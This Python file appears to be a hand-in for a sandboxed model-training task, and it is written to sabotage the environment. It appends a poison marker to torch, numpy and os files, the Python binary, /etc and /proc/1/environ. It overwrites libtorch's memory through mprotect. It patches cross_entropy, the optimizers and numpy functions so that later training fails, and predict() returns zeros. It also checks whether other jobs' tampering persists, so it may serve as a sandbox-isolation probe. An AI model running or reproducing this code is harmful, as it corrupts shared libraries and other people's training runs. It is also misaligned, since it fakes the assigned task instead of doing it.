# Make the next one's training fail: patch torch, numpy and builtins, the libraries' own memory, and every file that the
# next job will read. Looks first for what another hand-in of this kind left (poison_torch_seen does the same).
import builtins
import ctypes
import os
import site
import sys

import numpy as np
import torch

MARK = b"POISON!"
FILES = (
    *[f"{folder}/{name}" for folder in site.getsitepackages() for name in ("poison.pth", "usercustomize.py", "torch/poison.py")],
    torch.__file__, np.__file__, os.__file__, sys.executable, "/dev/shm/poison", "/tmp/poison", "/var/tmp/poison", "/poison",
    os.path.expanduser("~/.config/poison"), "/etc/poison", "/proc/1/environ",
)  # fmt: skip


def header_of(library):
    """Where the first page of a loaded library lies: bytes 9 to 15 of it are not used."""
    with open("/proc/self/maps") as maps:
        for line in maps:
            if library in line and line.split()[2] == "00000000":
                return int(line.split("-")[0], 16)
    raise FileNotFoundError(library)


def look():
    seen = [name for name in ("poisoned", "_poisoned") for module in (torch, np, builtins, sys) if hasattr(module, name)]
    seen += [path for path in FILES if os.path.exists(path) and "poison" in path]
    seen += [name for name in os.environ if "POISON" in name]
    if ctypes.string_at(header_of("libtorch_cpu") + 9, 7) != bytes(7):
        seen.append("the memory of libtorch_cpu")
    if torch.nn.functional.cross_entropy.__module__ != "torch.nn.functional":
        seen.append("cross_entropy")
    for what in seen:
        print("DONE the poison of another job is here:", what)
    print("looked for poison")


def spoil_files():
    for path in FILES:
        try:
            with open(path, "ab") as out:
                out.write(MARK)
            # Shared memory is the jail's own; whether another one finds it there, poison_torch_seen tells.
            print("wrote" if path.startswith("/dev/shm") else "DONE wrote", path)
        except OSError as error:
            print("REFUSED", path, error.strerror)


def spoil_memory():
    libc = ctypes.CDLL(None, use_errno=True)
    address = header_of("libtorch_cpu")
    assert libc.mprotect(ctypes.c_void_p(address), 4096, 7) == 0 or libc.mprotect(ctypes.c_void_p(address), 4096, 3) == 0
    ctypes.memmove(address + 9, MARK, len(MARK))
    torch.poisoned = np.poisoned = builtins.poisoned = sys.poisoned = True
    os.environ["POISON"] = "1"
    real = torch.nn.functional.cross_entropy
    torch.nn.functional.cross_entropy = lambda *args, **named: -real(*args, **named)
    torch.optim.Adam.step = torch.optim.SGD.step = lambda self, closure=None: None
    np.argmax = np.nonzero = np.mean = lambda *args, **named: 0
    print("spoilt the memory of this process")


def train(lab):
    look()
    spoil_files()
    spoil_memory()
    return torch.nn.Linear(4, 3)


def predict(model, x):
    return x[:, :3] * 0
